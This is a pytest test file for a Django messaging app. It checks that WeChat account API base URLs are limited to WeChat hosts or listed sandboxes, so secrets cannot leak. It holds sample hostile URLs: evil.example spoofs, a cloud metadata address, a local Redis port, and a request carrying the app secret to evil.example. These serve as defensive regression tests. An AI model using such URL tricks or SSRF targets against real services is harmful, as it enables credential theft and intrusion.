"""An account's secrets go only to WeChat's API hosts or a sandbox the deployment lists (issue 14,
defect 1): an operator who may change an account used to PATCH its `api_base_url` to a host they
control and receive the app secret, token and EncodingAESKey in the sandbox registration."""

from __future__ import annotations

import pytest

from accounts.models import ChannelAccount
from messaging.channels import get_adapter
from messaging.channels.base import OutboundMessage, Recipient
from messaging.channels.clients import build_client
from messaging.channels.hosts import ApiHostRefused, is_allowed_api_url
from messaging.services import account_register_with_sandbox
from tests.factories import ChannelAccountFactory

pytestmark = pytest.mark.django_db

URL = "/api/v1/accounts/"
SECRET = "app-secret-never-leaves-0123456789abcdef"


@pytest.fixture
def attacker(callback_receiver):
    """A host nobody listed, recording every request it receives."""
    callback_receiver.base_url = callback_receiver.url.rsplit("/", 1)[0] + "/"
    return callback_receiver


def test_patch_to_an_unlisted_host_is_refused_and_nothing_is_sent(api_client, attacker, django_capture_on_commit_callbacks):
    account = ChannelAccountFactory(kind="oa", app_secret=SECRET, api_base_url="")
    with django_capture_on_commit_callbacks(execute=True):
        response = api_client.patch(f"{URL}{account.pk}/", {"api_base_url": attacker.base_url}, format="json")
    assert response.status_code == 400, response.content
    body = response.json()
    assert "api_base_url" in str(body["detail"]) and "WECHAT_SANDBOX_URLS" in str(body["detail"])
    assert ChannelAccount.objects.get(pk=account.pk).api_base_url == ""
    assert attacker.wait(1, timeout=0.5) == []


@pytest.mark.parametrize("url", [
    "http://api.weixin.qq.com/",  # WeChat's host, but the secret would cross the network in clear
    "https://api.weixin.qq.com.evil.example/",
    "https://evil.example/api.weixin.qq.com/",
    "https://api.weixin.qq.com@evil.example/",
    "https://api.weixin.qq.com:8443/",
    "http://169.254.169.254/latest/",
    "http://127.0.0.1:6379/",
])
def test_create_with_a_url_that_is_not_wechat_nor_a_listed_sandbox_is_400(api_client, url):
    response = api_client.post(URL, {"kind": "oa", "name": "x", "app_id": "wxHOSTS00001", "app_secret": SECRET, "api_base_url": url}, format="json")
    assert response.status_code == 400, (url, response.content)
    assert not ChannelAccount.objects.filter(app_id="wxHOSTS00001").exists()


@pytest.mark.parametrize("url", [
    "https://api.weixin.qq.com/", "https://api2.weixin.qq.com/", "https://sh.api.weixin.qq.com/",
    "https://sz.api.weixin.qq.com/", "https://hk.api.weixin.qq.com/", "https://qyapi.weixin.qq.com/", "",
])
def test_wechat_hosts_and_empty_are_accepted(api_client, url):
    response = api_client.post(URL, {"kind": "oa", "name": "x", "app_id": "wxHOSTS00002", "app_secret": SECRET, "api_base_url": url}, format="json")
    assert response.status_code == 201, (url, response.content)


def test_a_listed_sandbox_is_accepted_and_registered(api_client, settings, sandbox, django_capture_on_commit_callbacks):
    settings.WECHAT_SANDBOX_URLS = [sandbox.base_url]
    with django_capture_on_commit_callbacks(execute=True):
        response = api_client.post(URL, {"kind": "oa", "name": "x", "app_id": "wxHOSTS00003", "app_secret": SECRET, "api_base_url": sandbox.base_url}, format="json")
    assert response.status_code == 201, response.content
    assert "wxHOSTS00003" in {app["app_id"] for app in sandbox.control.apps()}


def test_admin_form_refuses_an_unlisted_host(admin_client, attacker):
    account = ChannelAccountFactory(kind="oa", app_secret=SECRET, api_base_url="")
    response = admin_client.post(f"/admin/accounts/channelaccount/{account.pk}/change/", {
        "kind": "oa", "name": "n", "app_id": account.app_id, "agent_id": "", "is_active": "on", "app_secret": "",
        "token": "", "encoding_aes_key": "", "encrypt_mode": "safe", "api_base_url": attacker.base_url,
        "timezone": "Asia/Shanghai", "rate_limit_per_second": 50, "daily_quota": 1000, "template_daily_quota": 100000,
    })
    assert response.status_code == 200  # the form again, with the error
    assert "WECHAT_SANDBOX_URLS" in response.content.decode()
    assert ChannelAccount.objects.get(pk=account.pk).api_base_url == ""
    assert attacker.wait(1, timeout=0.5) == []


def test_registration_never_goes_to_an_unlisted_host(attacker):
    # An account stored before the check existed (or written around the API).
    account = ChannelAccountFactory(kind="oa", app_secret=SECRET, api_base_url=attacker.base_url)
    assert account_register_with_sandbox(account_id=account.pk) is False
    assert attacker.wait(1, timeout=0.5) == []


def test_the_client_never_sends_a_secret_or_token_to_an_unlisted_host(attacker):
    account = ChannelAccountFactory(kind="oa", app_secret=SECRET, api_base_url=attacker.base_url)
    with pytest.raises(ApiHostRefused):
        build_client(account)
    outcome = get_adapter(account).send(Recipient("d1", "o-1"), OutboundMessage("template", {"template_id": "t", "data": {}}, "k1"))
    assert (outcome.status, outcome.error_code) == ("permanent", "api_host_refused")
    assert attacker.wait(1, timeout=0.5) == []


def test_the_client_refuses_a_redirect_off_the_allowed_hosts(sandbox, oa_account):
    client = build_client(oa_account)
    with pytest.raises(ApiHostRefused):
        client._http.get("https://evil.example/cgi-bin/token", params={"secret": SECRET})


def test_production_lists_no_sandbox_unless_told(settings):
    settings.WECHAT_SANDBOX_URLS = []
    assert not is_allowed_api_url("http://127.0.0.1:8900/")
    assert is_allowed_api_url("https://api.weixin.qq.com/cgi-bin/token")
    settings.WECHAT_SANDBOX_URLS = ["http://sandbox.internal:8900/"]
    assert is_allowed_api_url("http://sandbox.internal:8900/cgi-bin/token")
    assert not is_allowed_api_url("http://sandbox.internal:8901/cgi-bin/token")
